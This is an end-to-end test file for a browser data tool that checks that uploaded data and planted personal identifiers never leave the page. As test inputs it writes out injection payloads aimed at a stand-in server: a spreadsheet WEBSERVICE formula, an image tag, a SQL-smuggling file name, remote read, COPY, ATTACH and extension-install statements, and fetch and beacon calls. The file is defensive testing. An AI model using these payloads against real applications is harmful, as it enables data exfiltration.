import { strFromU8, unzipSync } from "fflate";
import { readdirSync, readFileSync } from "node:fs";
import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serveFolder } from "../../.ci/staticServer.mjs";
import { buildSqlPage, builtPolicy } from "../support/buildSqlPage.ts";
import { keptBy, shownOn } from "../support/keptByBrowser.ts";
import { openSite } from "../support/openSite.ts";
import { serveElsewhere, type RecordingServer } from "../support/serveDist.ts";
import {
  acceptAndClose,
  allRead,
  confirmAll,
  dropOn,
  exampleReady,
  figureCell,
  fileAt,
  filter,
  loadAll,
  saved,
  savedPanel,
  settled,
  sheet,
  sheetFile,
  sourcesOf,
  visit,
  type Visit,
} from "../support/visit.ts";

type Planted = {
  readonly rows: number;
  readonly kept: readonly string[];
  readonly columns: Readonly<Record<string, string>>;
  readonly sentinels: readonly string[];
  readonly sentinelPatterns: readonly string[];
};

const planted = "tests/fixtures/synthetic/planted-identifiers.csv";
/** The same as a workbook, Parquet, JSON, JSON lines, gzip and CSV in folders of one archive. */
const plantedZip = "tests/fixtures/synthetic/planted-identifiers.zip";
// The fixture's own list, written with it.
const { rows, columns, sentinels, sentinelPatterns } = JSON.parse(
  readFileSync("tests/fixtures/synthetic/planted-identifiers.json", "utf8"),
) as Planted;

/** The planted identifiers that a text holds, by name. */
const plantedIn = (text: string): readonly string[] => [
  ...sentinels.filter((sentinel) => text.includes(sentinel)),
  ...sentinelPatterns.filter((pattern) => new RegExp(pattern).test(text)),
];

let browser: Browser;
let site: RecordingServer;
let elsewhere: RecordingServer;

openSite((opened) => {
  ({ browser, site } = opened);
}, "/a/sub-path/");
beforeAll(async () => {
  elsewhere = await serveElsewhere();
});
afterAll(async () => {
  await elsewhere.close();
});

describe("nothing leaves: a whole visit beside another origin that would answer", () => {
  let seen: Visit;

  beforeAll(async () => {
    seen = await visit(browser, site.url);
    const { page } = seen;
    await exampleReady(page);
    await filter(page, "Service line").selectOption("Cardiology");
    await settled(page);
    await figureCell(page, "NPS").getByRole("button", { name: "How do we know?" }).click();
    await page.locator("dialog.popover[open]").waitFor();
    await page.keyboard.press("Escape");
    for (const form of ["PNG", "SVG", "CSV"] as const) await savedPanel(page, "funnel", form);
    await page.emulateMedia({ media: "print" });
    await page.pdf({ preferCSSPageSize: true });
    await page.emulateMedia({ media: null });
    const hostile = `id,comment,rating\n1,"=WEBSERVICE(""${elsewhere.url}a"")",5\n2,"<img src=${elsewhere.url}b.png>",1\n`;
    await dropOn(page, [
      fileAt("tests/fixtures/synthetic/hubspot-contacts.csv"),
      { name: `${elsewhere.url}c.csv`, bytes: Buffer.from(hostile) },
      {
        name: "x' UNION FROM read_csv('d.csv.csv",
        bytes: Buffer.from(hostile.replace("id", `FROM '${elsewhere.url}d'`)),
      },
    ]);
    await allRead(page);
    await confirmAll(page);
    await loadAll(page);
    await acceptAndClose(page);
  });
  afterAll(() => seen.close());

  it("asks nothing of any other origin", () => {
    const origin = new URL(site.url).origin;
    expect(seen.requests.filter(({ url }) => new URL(url).origin !== origin)).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
  });

  it("asks its own origin only for files of the site, by GET, with no query and no body", () => {
    const files = readdirSync("dist", { recursive: true, encoding: "utf8" }).map((path) => `/a/sub-path/${path}`);
    expect(seen.requests.filter(({ method, body }) => method !== "GET" || body !== null)).toEqual([]);
    expect(site.requests.filter((path) => path !== "/a/sub-path/" && !files.includes(path))).toEqual([]);
    expect(site.requests.length).toBeGreaterThan(5);
  });

  it("writes nothing to the console, where a cell could be read, and leaves no error uncaught", () => {
    expect(seen.said).toEqual([]);
  });
});

describe("the page's policy", () => {
  it("allows the page's own origin and nothing else", async () => {
    const policy = /content="([^"]*)"/.exec(builtPolicy())?.[1] ?? "";
    const directives = new Map(
      policy.split(";").map((directive) => {
        const [name, ...sources] = directive.trim().split(/\s+/);
        return [name, sources] as const;
      }),
    );
    expect(directives.get("default-src")).toEqual(["'none'"]);
    expect(directives.get("connect-src")).toEqual(["'self'", "blob:"]);
    expect(directives.get("form-action")).toEqual(["'none'"]);
    expect(directives.get("base-uri")).toEqual(["'none'"]);
    expect([...directives.values()].flat().filter((source) => /[*]|https?:|wss?:|'unsafe-eval'/.test(source))).toEqual(
      [],
    );
  });

  /** Tries to reach the address from the page and from a worker made of a blob, as the engine's are. */
  const tryToReach = (page: Page, url: string): Promise<readonly string[]> =>
    page.evaluate(async (address) => {
      const attempt = (work: Promise<unknown>): Promise<string> =>
        work.then(
          () => "reached",
          () => "stopped",
        );
      const script = `
        const tell = (word) => postMessage(word);
        const synchronous = () => { const asked = new XMLHttpRequest(); asked.open("GET", ${JSON.stringify(`${address}w-xhr`)}, false); asked.send(); };
        fetch(${JSON.stringify(`${address}w-fetch`)}).then(() => "reached", () => "stopped").then((fetched) => {
          let asked = "reached";
          try { synchronous(); } catch { asked = "stopped"; }
          tell([fetched, asked]);
        });`;
      const inWorker = new Promise<readonly string[]>((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
        worker.onmessage = ({ data }: MessageEvent<readonly string[]>) => {
          resolve(data);
        };
      });
      const image = new Promise((resolve, reject) => {
        const picture = new Image();
        picture.onload = resolve;
        picture.onerror = reject;
        picture.src = `${address}image.svg`;
      });
      navigator.sendBeacon(`${address}beacon`, "cells");
      return [await attempt(fetch(`${address}fetch`)), await attempt(image), ...(await inWorker)];
    }, url);

  it("stops the page, and a worker made of a blob, from reaching another origin", async () => {
    const { page, close } = await visit(browser, site.url, { engine: "never" });
    expect(await tryToReach(page, elsewhere.url)).toEqual(["stopped", "stopped", "stopped", "stopped"]);
    expect(elsewhere.requests).toEqual([]);
    await close();
  });

  it("is what stops them: a page without it reaches the other origin", async () => {
    const bare = await serveFolder({ folder: "tests/e2e/sqlPage" });
    const open = await serveElsewhere();
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(bare.url);
    expect((await tryToReach(page, open.url)).filter((word) => word === "reached")).toHaveLength(3); // CSV is no picture
    expect(open.requests).toEqual(expect.arrayContaining(["/fetch", "/image.svg", "/w-fetch", "/w-xhr", "/beacon"]));
    await context.close();
    await open.close();
    await bare.close();
  });

  it("and the engine's own lock refuse SQL that names another origin, and nothing is sent", async () => {
    const engineAlone = await buildSqlPage();
    const context = await browser.newContext();
    const page = await context.newPage();
    const asked: string[] = [];
    context.on("request", (request) => asked.push(request.url()));
    await page.goto(engineAlone.url);
    await page.waitForFunction(() => "tell" in globalThis, null, { timeout: 120_000 });
    const tell = (statement: string): Promise<string> =>
      page.evaluate(
        // The page puts `tell` there; the compiler cannot know.
        (said) => (globalThis as unknown as { tell: (statement: string) => Promise<string> }).tell(said),
        statement,
      );
    expect(await tell("CREATE TABLE kept AS SELECT 1 AS one")).toBe("done");
    for (const statement of [
      `CREATE TABLE leak AS FROM read_csv('${elsewhere.url}leak.csv')`,
      `CREATE TABLE leak AS FROM '${elsewhere.url}leak.parquet'`,
      `COPY kept TO '${elsewhere.url}leak.csv'`,
      `ATTACH '${elsewhere.url}leak.db' AS other`,
      `LOAD httpfs`,
      `SET custom_extension_repository = '${elsewhere.url}'`,
    ])
      expect(await tell(statement), statement).toMatch(/Permission Error|disabled|does not exist|locked/i);
    await tell(`FORCE INSTALL httpfs FROM '${elsewhere.url}'`); // taken for a promise that LOAD, refused above, would keep
    expect(asked.filter((url) => !url.startsWith("blob:") && !url.startsWith(engineAlone.url))).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
    await context.close();
    await engineAlone.close();
  });
});

describe("a file full of identifiers", () => {
  let seen: Visit;
  const dom: string[] = [];

  beforeAll(async () => {
    seen = await visit(browser, site.url); // the example may still be on its way: that changes nothing
    const { page } = seen;
    await dropOn(page, [fileAt(planted), fileAt(plantedZip)]);
    await allRead(page);
    dom.push(await shownOn(page));
  });
  afterAll(() => seen.close());

  it("has every identifier column struck, by name and by content, and listed", async () => {
    const listed = await sheet(seen.page).locator(".drop-notes").innerText();
    const missing = Object.entries(columns)
      .filter(
        ([header, kind]) => kind !== "freeText" && !["zip", "birthDate"].includes(kind) && !listed.includes(header),
      )
      .map(([header]) => header);
    expect(missing).toEqual([]);
    expect(listed).toMatch(/col_a\s*\(its cells look like it\)/);
  });

  it("leaves none of them in the page, before or after loading, nor in anything the browser keeps", async () => {
    const { page } = seen;
    expect(plantedIn(dom.join("\n"))).toEqual([]);
    await confirmAll(page);
    dom.push(await shownOn(page));
    await loadAll(page);
    dom.push(await shownOn(page));
    await acceptAndClose(page);
    for (const numbers of await page.getByRole("button", { name: "Show the numbers" }).all()) await numbers.click();
    dom.push(await shownOn(page));
    expect(plantedIn(dom.join("\n"))).toEqual([]);
    expect(plantedIn(await keptBy(page))).toEqual([]);
    const account = (await sourcesOf(page))["planted-identifiers.csv"];
    expect(account?.["Rows in file"]).toBe((rows + 1).toLocaleString("en-US"));
  });

  it("leaves none of them in what is saved, printed or said", async () => {
    const { page } = seen;
    const drivers = await savedPanel(page, "table", "CSV");
    expect(drivers.name).toMatch(/-table-.*\.csv$/);
    expect(drivers.text.split(/\r?\n/).length).toBeGreaterThan(14);
    expect(plantedIn(drivers.text)).toEqual([]);
    expect(plantedIn((await savedPanel(page, "sources", "CSV")).text)).toEqual([]);
    await page.getByRole("button", { name: "Snapshot", exact: true }).click();
    const snapshot = page.getByRole("dialog", { name: "Snapshot" });
    await snapshot.getByLabel("Note").fill("Ask jane.roe@example.org or 614-555-0142");
    for (const form of [/JSON/, /HTML/]) {
      const { text } = await saved(page, () => snapshot.getByRole("button", { name: form }).click());
      expect(plantedIn(text)).toEqual([]);
      expect(text).toContain("Ask [e-mail] or [phone]");
    }
    const slides = await saved(page, () => snapshot.getByRole("button", { name: /PPTX/ }).click());
    const deck = Object.values(unzipSync(slides.bytes))
      .map((part) => strFromU8(part))
      .join("\n");
    expect(plantedIn(deck)).toEqual([]);
    expect(deck).toContain("Ask [e-mail] or [phone]");
    await page.keyboard.press("Escape");
    await page.emulateMedia({ media: "print" });
    expect(plantedIn(await page.locator("body").innerText())).toEqual([]);
    await page.emulateMedia({ media: null });
    expect(seen.said).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
  });

  it("is no file to the console or the other origin when it is refused either", async () => {
    const { page } = seen;
    await dropOn(page, [{ name: "again.csv", bytes: fileAt(planted).bytes }]);
    await allRead(page);
    expect(plantedIn(await sheetFile(page, "again.csv").innerText())).toEqual([]);
    expect(plantedIn(await keptBy(page))).toEqual([]);
    expect(seen.said).toEqual([]);
  });
});
